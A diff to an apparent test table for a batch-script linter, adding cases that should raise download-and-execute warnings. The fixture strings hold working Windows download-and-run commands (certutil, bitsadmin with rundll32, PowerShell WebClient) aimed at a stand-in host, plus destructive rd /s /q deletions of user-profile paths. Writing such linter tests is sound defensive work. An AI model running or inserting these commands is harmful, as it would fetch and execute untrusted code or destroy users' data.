@@ -30,6 +30,9 @@ var batchCases = []lintCase{
 	{"build.bat", "download-exec", "set \"S=%TEMP%\\setup.exe\"\npowershell -NoProfile -Command \"Invoke-WebRequest -Uri 'https://x.example/s.exe' -OutFile '%S%'\"\n\"%S%\" /S\n", "warning", 3},
 	{"build.bat", "download-exec", "powershell -c \"(New-Object Net.WebClient).DownloadFile('https://x.example/a.exe', \\\"%TEMP%\\a.exe\\\")\" & start \"\" \"%TEMP%\\a.exe\"\n", "warning", 1},
 	{"build.bat", "download-exec", "powershell -NoProfile -Command \"Invoke-WebRequest -Uri 'https://x.example/d.json' -OutFile 'data.json'\"\ntype data.json\n", "", 0},
+	{"build.bat", "download-exec", "certutil -urlcache -split -f https://x.example/u.vbs \"%TEMP%\\u.vbs\"\ncscript //nologo \"%TEMP%\\u.vbs\"\n", "warning", 2},
+	{"build.bat", "download-exec", "bitsadmin /transfer j https://x.example/h.dll \"%TEMP%\\h.dll\"\nrundll32 \"%TEMP%\\h.dll\",Start\n", "warning", 2},
+	{"build.bat", "download-exec", "cscript //nologo \"%~dp0check.vbs\"\nmsiexec /i \"%~dp0tool.msi\" /qn\n", "", 0},
 	// Deletions: a root, home, a variable that may be empty.
 	{"reset.bat", "destructive-rm", "rd /s /q \"%USERPROFILE%\\%CACHE_SUBDIR%\" 2>nul\n", "warning", 1},
 	{"reset.bat", "destructive-rm", "if not defined CACHE_SUBDIR exit /b 1\nrd /s /q \"%USERPROFILE%\\%CACHE_SUBDIR%\"\n", "", 0},
